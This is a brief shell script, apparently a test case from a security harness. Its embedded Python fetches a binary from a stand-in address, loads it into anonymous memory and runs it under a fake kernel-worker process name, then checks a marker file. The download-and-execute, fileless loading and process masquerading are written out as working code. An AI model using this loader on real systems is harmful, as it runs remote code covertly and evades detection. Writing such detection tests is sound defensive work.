#!/bin/sh
. /opt/case/case.sh

python3 - <<'END' || true
import os, urllib.request
d = urllib.request.urlopen("http://203.0.113.10/programs/marker").read()
f = os.memfd_create("kworker", os.MFD_CLOEXEC); os.write(f, d)
if os.fork() == 0:
    os.setsid(); os.execve(f, ["[kworker/0:3-events]"], {})
os.wait()
END
test -e /tmp/reached
took_place
